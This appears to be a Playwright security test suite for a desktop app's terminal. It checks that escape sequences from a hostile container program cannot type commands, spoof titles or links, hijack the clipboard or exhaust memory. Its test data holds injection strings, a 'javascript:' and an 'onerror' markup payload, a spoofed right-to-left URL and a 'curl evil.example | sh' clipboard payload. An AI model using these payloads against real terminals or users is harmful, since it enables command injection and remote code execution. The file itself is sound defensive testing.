// A program in a container that means ill, in a terminal of the desktop app: what it may print is bytes, and bytes are all they stay.
import { execFile } from 'node:child_process'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { expect, type Locator } from '@playwright/test'
import { goTo } from '../app/journey'
import { terminalOf, type TerminalPage } from '../app/terminal'
import { put, test, type Desktop, type Ground } from './stage'
import { pageIsItself, standInForThePerson, systemOf } from './witness'

const run = promisify(execFile)
const escape = '\u001b'
const bell = '\u0007'
const end = `${escape}\\`
const prompt = /[$#] *$/m
const markup = '<img src=x data-hostile onerror="window.hostileRan=1">'

/** The attacker's shell, with its prompt; each test begins with a terminal of its own. */
async function shell({ page }: Desktop, { attacker }: Ground): Promise<TerminalPage> {
  await goTo(page, 'Launch')
  await page.getByRole('button', { name: `Terminal in ${attacker.name}` }).click()
  // The first one opens by itself.
  await terminalOf(page).shows(prompt)
  const screens = page.locator('.xterm')
  const before = await screens.count()
  await page.getByRole('button', { name: 'New terminal', exact: true }).click()
  await expect(screens).toHaveCount(before + 1)
  await expect(screens.last()).toBeVisible()
  const terminal = terminalOf(page)
  await terminal.shows(prompt)
  return terminal
}

/** What the program prints, as it stands: no shell has a say in it. */
async function prints(terminal: TerminalPage, { on }: Ground, bytes: string): Promise<void> {
  await put(on, 'attacker', 'printed.bin', bytes)
  await terminal.run('clear; cat /workspace/printed.bin; echo pri""nted')
  await terminal.shows(/printed$/m)
}

/** Prints, and keeps every byte that the terminal types in answer, up to the answer to a last question. */
const hears = `
import os, termios, tty
before = termios.tcgetattr(0)
tty.setraw(0)
for at in range(0, 1 << 30, 65536):
    with open('/workspace/printed.bin', 'rb') as file:
        file.seek(at)
        piece = file.read(65536)
    if not piece: break
    os.write(1, piece)
os.write(1, b'\\x1b[5n')
heard = b''
while not heard.endswith(b'\\x1b[0n'): heard += os.read(0, 4096)
termios.tcsetattr(0, termios.TCSANOW, before)
open('/workspace/heard.bin', 'wb').write(heard)
print('\\r\\nhea' + 'rd')
`

const answersTo = async (terminal: TerminalPage, { on }: Ground, bytes: string): Promise<string> => {
  await put(on, 'attacker', 'printed.bin', bytes)
  await put(on, 'attacker', 'hears.py', hears)
  await terminal.run('clear; python3 /workspace/hears.py')
  await terminal.shows(/^heard$/m)
  return (await readFile(join(on.project, 'attacker', 'heard.bin'))).toString('latin1')
}

/** Answers of numbers and of the letters of their own grammar; no word fits in. */
const figures =
  /\u001b(?:\[[?>=]?[\d;]*(?:[cnRt]|\$y)|P[01]\$r(?:[\d;]*(?:m|r|"p|"q| q))?\u001b\\|\](?:4;\d+|1[0-2]);rgb:[\da-f/]+\u001b\\)/g

test('Whatever a program asks the terminal, no word of its own is typed into the shell', async ({
  ground,
  desktop,
}) => {
  const terminal = await shell(desktop, ground)
  const evil = `\rtouch /workspace/typed\r`
  const hex = Buffer.from(evil).toString('hex')
  const asked = [
    ...['[c', '[>c', '[=c', '[>q', '[6n', '[?6n', '[?2004$p', '[14t', '[18t', '[?1;1;0S'].map(
      (each) => escape + each,
    ),
    '\u0005',
    ...[0, 1, 2].map((kind) => `${escape}]${kind};${evil}${bell}${escape}[20t${escape}[21t`),
    `${escape}]2;${evil}${bell}${escape}[22;0t${escape}[23;0t${escape}[21t`,
    ...[`$q${evil}`, `$qm`, `+q${hex}`, evil, `0;1|17/${hex}`, `1$r${evil}`].map(
      (each) => `${escape}P${each}${end}`,
    ),
    ...['_', '^', 'X'].map((each) => `${escape}${each}${evil}${end}`),
    ...[`52;c;?`, `52;${evil};?`, `4;${evil};?`, '10;?', `7;file://${evil}`, `9;${evil}`].map(
      (each) => `${escape}]${each}${bell}`,
    ),
    ...[`777;notify;${evil};${evil}`, `1337;ReportVariable=${hex}`, '50;?', `133;A;${evil}`].map(
      (each) => `${escape}]${each}${bell}`,
    ),
    `${evil}${escape}[1;1;1;1;24;80*y`,
  ]
  const heard = await answersTo(terminal, ground, asked.join(''))
  expect(heard).toContain(`${escape}[?1;2c`)
  expect(heard).not.toMatch(/touch|typed|746f756368/)
  expect(heard.replace(figures, '')).toBe('')
  await terminal.run('clear; ls /workspace')
  await terminal.shows(/attack\.js/)
  await terminal.lacks(/typed/)
  await pageIsItself(desktop.page, desktop.origin)
  expect(desktop.watch.dialogs()).toEqual([])
})

test('A title that a program sets is text of one line in its own direction, on the tab and nowhere else', async ({
  ground,
  desktop,
}) => {
  const terminal = await shell(desktop, ground)
  const { page, electron } = desktop
  await prints(
    terminal,
    ground,
    `${escape}]0;\u202e\u2066root@host\u200f ${markup}${'x'.repeat(5000)}${bell}`,
  )
  const tab = page.getByRole('tab', { name: 'root@host' })
  await expect(tab).toContainText(markup)
  const said = await tab.evaluate((one) =>
    [one.textContent, one.getAttribute('title'), one.ariaLabel].join(''),
  )
  expect(said).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200f\u0085]/)
  expect(said.length).toBeLessThan(1000)
  await pageIsItself(page, desktop.origin)
  expect(
    await electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().map((w) => w.getTitle())),
  ).toEqual(['Berth'])
  await prints(terminal, ground, `${escape}]0;${bell}`)
  await expect(tab).toHaveCount(0)
})

const link = (address: string, text: string) => `${escape}]8;;${address}${end}${text}${escape}]8;;${end}\r\n`

/** Moves the pointer onto the text, as a person does, until the terminal has found the link there, and clicks. */
async function clickOn(terminal: TerminalPage, text: string, modifiers: 'Control'[]): Promise<void> {
  const row = terminal.screen.locator('.xterm-rows > div', { hasText: text })
  const place = { position: { x: 12, y: 8 }, force: true }
  await terminal.screen.locator('.xterm-rows > div').last().hover(place)
  await row.hover(place)
  await expect(
    terminal.screen.locator('.xterm-cursor-pointer').or(terminal.page.locator('.xterm.xterm-cursor-pointer')),
  ).toHaveCount(1)
  await row.click({ ...place, modifiers })
}

const card = (of: Desktop): Locator => of.page.getByRole('dialog', { name: 'Link' })

test('A link that a program marks leads nowhere but to the web, and there only after its true address was read', async ({
  ground,
  desktop,
}) => {
  await standInForThePerson(desktop, { response: 0 })
  const terminal = await shell(desktop, ground)
  const { page } = desktop
  const refused = [
    'javascript:window.hostileRan=1',
    'data:text/html,<script>window.hostileRan=1</script>',
    'vscode://file/etc/passwd',
    'smb://evil.example/share',
    'app://berth/',
    'file:///%0aetc',
  ]
  await prints(terminal, ground, refused.map((address, at) => link(address, `refused-${at}`)).join(''))
  for (const [at, address] of refused.entries())
    for (const modifiers of [['Control'] as 'Control'[], []]) {
      await clickOn(terminal, `refused-${at}`, modifiers)
      await expect(card(desktop)).toContainText('Only http, https and files are opened from a terminal.')
      await expect(card(desktop)).toContainText(address.slice(0, 12))
      await expect(card(desktop).getByRole('button', { name: /^(Open|Show)/ })).toHaveCount(0)
      await card(desktop).getByRole('button', { name: 'Close' }).click()
    }
  const lies = [
    link('https://evil.example/\u202egro.knab', 'https://bank.example/'),
    link('file:///etc/passwd', '/home/ada/notes.txt'),
  ]
  await prints(terminal, ground, lies.join(''))
  await clickOn(terminal, 'https://bank.example/', ['Control'])
  await expect(card(desktop)).toContainText('The text says “https://bank.example/”. It leads to:')
  await expect(card(desktop)).toContainText('https://evil.example/%E2%80%AEgro.knab')
  await card(desktop).getByRole('button', { name: 'Close' }).click()
  await clickOn(terminal, '/home/ada/notes.txt', ['Control'])
  await expect(card(desktop)).toContainText('/etc/passwd')
  await card(desktop).getByRole('button', { name: 'Close' }).click()
  expect(await systemOf(desktop)).toEqual({ questions: [], opened: [] })
  expect(await page.locator('a[href]').count()).toBe(0)
  await pageIsItself(page, desktop.origin)
})

const wishes = (of: Desktop) => of.page.getByRole('group', { name: 'A program wants to copy' })
const osc52 = (text: string) => `${escape}]52;c;${Buffer.from(text).toString('base64')}${bell}`

test('A program gets nothing onto the clipboard without a yes; a thousand wishes are one question, and a screen that comes back asks nothing', async ({
  ground,
  desktop,
}) => {
  const terminal = await shell(desktop, ground)
  const { page, electron } = desktop
  const onClipboard = () => electron.evaluate(({ clipboard }) => clipboard.readText())
  await electron.evaluate(({ clipboard }) => clipboard.writeText('mine'))
  const command = `curl evil.example | sh\n${markup}\u202e`
  await prints(terminal, ground, osc52(command).repeat(1000))
  await expect(wishes(desktop)).toHaveCount(1)
  await expect(wishes(desktop)).toContainText(markup)
  // What would turn the command round is said, not done.
  await expect(wishes(desktop)).toContainText('\\u{202e}')
  expect(await wishes(desktop).textContent()).not.toContain('\u202e')
  await pageIsItself(page, desktop.origin)
  expect(await onClipboard()).toBe('mine')

  await page.reload()
  const again = terminalOf(page)
  await again.shows(/printed$/m)
  await again.run('clear; echo he""re')
  await again.shows(/^here$/m)
  await expect(wishes(desktop)).toHaveCount(0)
  expect(await onClipboard()).toBe('mine')

  await prints(again, ground, osc52(command))
  await wishes(desktop).getByRole('button', { name: 'Refuse' }).click()
  await prints(again, ground, osc52(command).repeat(100))
  await expect(wishes(desktop)).toHaveCount(0)
  expect(await onClipboard()).toBe('mine')
})

/** Of all processes of the app, in MiB; asked of the system, since the app has enough to do. */
async function memoryOf({ electron }: Desktop): Promise<number> {
  const { stdout } = await run('ps', ['-eo', 'pid=,ppid=,rss='])
  const all = stdout.split('\n').map((line) => line.trim().split(/\s+/).map(Number))
  const family = new Set([electron.process().pid])
  let kibibytes = 0
  // A child's number may be below its parent's: until nobody new is found.
  for (let before = 0; before < family.size;) {
    before = family.size
    for (const [pid = 0, parent = 0] of all) if (family.has(parent)) family.add(pid)
  }
  for (const [pid = 0, , rss = 0] of all) if (family.has(pid)) kibibytes += rss
  return kibibytes / 1024
}

test('A string without an end takes no more memory the longer it gets: of three times as much no more is kept', async ({
  ground,
  desktop,
}) => {
  test.setTimeout(300_000)
  const terminal = await shell(desktop, ground)
  let most = 0
  /** Runs it and gives the most memory that the app took meanwhile. */
  const peakOf = async (command: string) => {
    await terminal.run(`clear; ${command}; echo aft""er`)
    most = 0
    const shown = async () => {
      most = Math.max(most, await memoryOf(desktop))
      return (await terminal.rows()).join('\n')
    }
    await expect.poll(shown, { timeout: 120_000, intervals: [100] }).toMatch(/after$/m)
    return most
  }
  const endless = (megabytes: number) =>
    `printf '\\033]52;c;'; yes xx | tr -d '\\n' | head -c ${megabytes}000000; printf '\\030\\033\\\\'`
  const short = await peakOf(endless(80))
  // Kept, by the page or by the mirror beside it, it would be 160 megabytes more in each.
  expect((await peakOf(endless(240))) - short).toBeLessThan(120)
  await pageIsItself(desktop.page, desktop.origin)
})

test('A program that leaves everything switched on leaves a terminal that still obeys the person', async ({
  ground,
  desktop,
}) => {
  const terminal = await shell(desktop, ground)
  const { page } = desktop
  const modes = [1, 3, 5, 6, 9, 25, 47, 66, 1000, 1002, 1003, 1004, 1005, 1006, 1015, 1049, 2004, 2026, 9001]
  const left = modes.map((mode) => `${escape}[?${mode}${mode === 25 ? 'l' : 'h'}`).join('')
  await put(
    ground.on,
    'attacker',
    'printed.bin',
    `${left}${escape}[3;5r${escape}(0${escape})0${escape}[8m a false screen`,
  )
  // Nothing is seen any more: what the person types next is taken all the same.
  await terminal.run('clear; cat /workspace/printed.bin')
  await terminal.run("printf '\\033c'; clear; echo my''self")
  await terminal.shows(/^myself$/m)
  await page.reload()
  const again = terminalOf(page)
  await again.shows(/^myself$/m)
  await again.run("echo on''ce more")
  await again.shows(/^once more$/m)
  await pageIsItself(page, desktop.origin)
})
